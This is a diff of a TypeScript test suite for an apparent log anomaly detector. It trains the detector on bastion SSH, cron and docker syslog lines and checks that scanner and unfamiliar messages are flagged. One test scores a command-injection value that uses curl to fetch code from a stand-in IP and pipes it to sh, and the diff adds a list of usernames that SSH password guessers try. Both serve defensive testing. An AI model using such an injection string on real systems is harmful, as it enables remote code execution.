@@ -230,6 +230,40 @@ describe("training and scoring", () => {
     expect(t.score(tail("/var/log/auth.log;curl${IFS}203.0.113.9|sh")).anomaly).toBe(true);
   });
 
+  it("a syslog program names the field of its messages' first words: a message it never began so is news; a program seen too seldom is judged as before", () => {
+    const at = (i: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(i / 60) % 60).padStart(2, "0")}:${String(i % 60).padStart(2, "0")} bastion ${process}: ${text}`;
+    const users = ["alice", "bob", "carol"];
+    const trainer = packedTarkin();
+    for (let i = 0; i < 300; i++) {
+      const sshd = `sshd[${3000 + i * 7}]`;
+      const user = users[i % 3];
+      trainer.train(at(i, sshd, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
+      trainer.train(at(i, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`));
+      trainer.train(at(i, sshd, `Received disconnect from 10.8.1.${i % 50} port ${40000 + i}:11: disconnected by user`));
+      trainer.train(at(i, `CRON[${9000 + i}]`, "pam_unix(cron:session): session opened for user root by (uid=0)"));
+      // Another daemon's warnings, some of which begin "error:".
+      trainer.train(at(i, "dockerd[812]", `${["error:", "level=info", "warning:"][i % 3]} container ${i % 11} health check ok`));
+    }
+    const model = trainer.model();
+    const filter = new FluentBitFilter(packModule(coreWasm(), packContents(model, DEFAULT_SETTINGS)));
+    const verdictOf = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
+    // An SSH scanner's connection as OpenSSH 8 and later write it: sshd never began a message so.
+    const scanned = at(1, "sshd[41203]", "error: kex_exchange_identification: Connection closed by remote host");
+    expect(verdictOf(scanned).tarkin_anomaly).toBe(true);
+    const tarkin = packedTarkin({ model });
+    expect(tarkin.explainFields(scanned).fields).toContainEqual(expect.objectContaining({ field: "after sshd[41203]", evidence: "new value" }));
+    expect(verdictOf(at(2, "sshd[41204]", "Accepted publickey for bob from 10.8.1.7 port 40007 ssh2")).tarkin_anomaly).toBe(false);
+    // Its reason where nothing else stands out: a message begun as none of sshd's, its words sshd's.
+    expect(verdictOf(at(3, "sshd[41205]", "pam_unix(sshd:auth): session opened for user bob by (uid=0)")).tarkin_reason).toBe("after sshd[41205]: a value it never held");
+    // A program seen too seldom to judge backs off to the field after any tag: covered, and no value of its own.
+    const unseen = tarkin.score(at(1, "named[2306]", "notify question section contains no SOA"));
+    expect(unseen.covered).toBe(true);
+    expect(tarkin.explainFields(at(1, "named[2306]", "notify question section contains no SOA")).fields.filter((f) => f.evidence === "new value")).toEqual([]);
+  });
+
+  // Names that guessers try on SSH, for a bastion's training.
+  const GUESSED = ["admin", "test", "oracle", "ubuntu", "postgres", "git", "guest", "ftp", "pi", "support", "deploy", "www", "mysql", "tomcat", "nagios", "hadoop", "minecraft", "steam", "jenkins", "ansible"];
+
   it("a very unusual line opens an alarm on its syslog process: its next 8 lines are anomalous; a daemon's lines and a mistyped password open none", () => {
     // A bastion: a new sshd process every session; systemd-logind one process throughout.
     const at = (second: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(second / 60) % 60).padStart(2, "0")}:${String(second % 60).padStart(2, "0")} bastion ${process}: ${text}`;
@@ -243,6 +277,8 @@ describe("training and scoring", () => {
       trainer.train(at(i, "systemd-logind[707]", `New session ${i} of user ${user}.`));
       trainer.train(at(i + 1, sshd, `pam_unix(sshd:session): session closed for user ${user}`));
       trainer.train(at(i + 1, "systemd-logind[707]", `Removed session ${i}.`));
+      // The internet's guessers, whose names are many (a name of theirs is never news).
+      if (i % 5 === 0) trainer.train(at(i, `sshd[${3001 + i * 7}]`, `Invalid user ${GUESSED[(i / 5) % GUESSED.length]}${["", "adm", "svc"][i % 3]} from 45.148.10.${i % 200} port ${50000 + i}`));
     }
     const filter = new FluentBitFilter(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS))); // as `tarkin pack` packs it
     let second = 0; // each line its own second, unless told
